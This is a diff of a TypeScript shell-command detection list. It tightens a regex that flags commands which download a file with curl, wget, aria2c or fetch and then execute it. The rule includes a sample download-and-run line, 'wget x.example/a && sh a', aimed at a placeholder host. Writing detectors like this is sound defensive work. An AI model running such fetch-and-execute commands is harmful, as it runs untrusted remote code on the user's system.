@@ -33,7 +33,7 @@ export const COMMANDS: readonly ShellCommand[] = [
   fetch(
     'downloaded, then run',
     'curl|wget|aria2c|fetch',
-    /\b(?:curl|wget|aria2c|fetch)\b[^\n]{1,200}(?:&&|;)\s*(?:sudo\s+)?(?:chmod|(?:ba|z|da)?sh|python[\d.]*|node|perl|ruby|source|\.\/|\/tmp|\.)/i,
+    /\b(?:curl|wget|aria2c|fetch)\b[^\n]{1,200}(?:&&|;)\s*(?:sudo\s+)?(?:chmod|(?:ba|z|da)?sh|python[\d.]*|node|perl|ruby|source|\.\/|\/tmp|\.(?!\.\.(?:\s|$)))/i,
     'wget x.example/a && sh a',
     'curl -O x.example/a && cat a',
   ),
